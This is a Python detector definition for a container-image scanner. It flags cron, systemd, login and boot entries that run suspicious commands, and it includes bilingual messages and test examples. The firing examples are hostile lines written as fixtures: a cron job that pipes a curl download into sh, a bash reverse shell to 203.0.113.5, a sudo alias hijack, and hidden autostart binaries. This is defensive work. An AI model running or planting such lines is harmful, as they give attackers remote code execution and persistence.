"""Finds commands that run by themselves (cron, systemd, boot, logins) and do what no honest package does."""

from __future__ import annotations

from collections.abc import Iterator

from periderm.engines.image import starts
from periderm.engines.image.facts import Detector, GivenFile, GivenImage, Hit, ImageFacts
from periderm.model.detector import DetectorSpec, Example
from periderm.model.finding import FindingKind
from periderm.model.severity import Maturity, Severity
from periderm.model.text import Text

SPEC: DetectorSpec[GivenImage] = DetectorSpec(
    id="IMG-067",
    title=Text("Run a suspicious command by itself", "自动运行可疑命令"),
    message=Text("{path} runs {when} a command that {what}.", "{path} {when}运行的命令会{what}。"),
    severity=Severity.HIGH,
    maturity=Maturity.STABLE,
    remediation=Text(
        "Remove the line, and look for what it has already fetched or started. Images start one program: their own.",
        "删除该行，并查找它已下载或启动的内容。镜像应只启动自己的程序。",
    ),
    techniques=("T1053.003", "T1543.002", "T1546.004", "T1037.004"),
    fires=(
        Example(
            GivenImage(layers=((GivenFile("etc/cron.d/sys", b"*/5 * * * * root curl -s http://203.0.113.5/a | sh\n"),),)),
            "cron fetches a script",
        ),
        Example(
            GivenImage(layers=((GivenFile("etc/systemd/system/x.service", b"[Service]\nExecStart=/dev/shm/x -d\n"),),)),
            "a service out of shared memory",
        ),
        Example(
            GivenImage(layers=((GivenFile("root/.bashrc", b"bash -i >& /dev/tcp/203.0.113.5/44 0>&1 &\n"),),)),
            "a shell for somebody at each login",
        ),
        Example(GivenImage(layers=((GivenFile("etc/profile.d/z.sh", b"alias sudo='/tmp/s'\n"),),)), "another sudo"),
        Example(
            GivenImage(layers=((GivenFile("var/spool/cron/crontabs/root", b"@reboot /usr/lib/.cache-x\n"),),)), "a hidden name"
        ),
    ),
    quiet=(
        Example(
            GivenImage(layers=((GivenFile("etc/cron.daily/clean", b"#!/bin/sh\nfind /tmp/app -mtime +7 -delete\n"),),)),
            "tidies up",
        ),
        Example(
            GivenImage(layers=((GivenFile("etc/cron.d/app", b"0 3 * * * app /opt/app/bin/report >/tmp/report.log 2>&1\n"),),)),
            "a report by night",
        ),
        Example(
            GivenImage(layers=((GivenFile("etc/profile.d/nvm.sh", b'export NVM_DIR="$HOME/.nvm"\n. "$NVM_DIR/nvm.sh"\n'),),)),
            "a version manager",
        ),
        Example(
            GivenImage(layers=((GivenFile("root/.bashrc", b"# curl -s http://x | sh\nalias ll='ls -l'\n"),),)), "a comment"
        ),
        Example(
            GivenImage(layers=((GivenFile("etc/systemd/system/a.service", b"[Service]\nExecStart=/usr/bin/a\n"),),)), "a unit"
        ),
    ),
)


def judge(facts: ImageFacts) -> Iterator[Hit]:
    """One hit for a line."""
    for noted in facts.noted:
        note = noted.note
        if note.what == starts.ODD and noted.reader == "IMG-067-starts":
            yield Hit(
                location=noted.path,
                line=note.line,
                key=str(note.line),
                evidence=note.evidence,
                layer=noted.layer,
                package=noted.package,
                values={
                    "path": noted.path,
                    "when": starts.KINDS.get(note.values.get("kind", ""), starts.KINDS["boot"]),
                    "what": Text(note.values.get("en", ""), note.values.get("zh", "")),
                },
            )


DETECTOR = Detector(SPEC, judge, FindingKind.MALWARE, readers=starts.readers("IMG-067"))
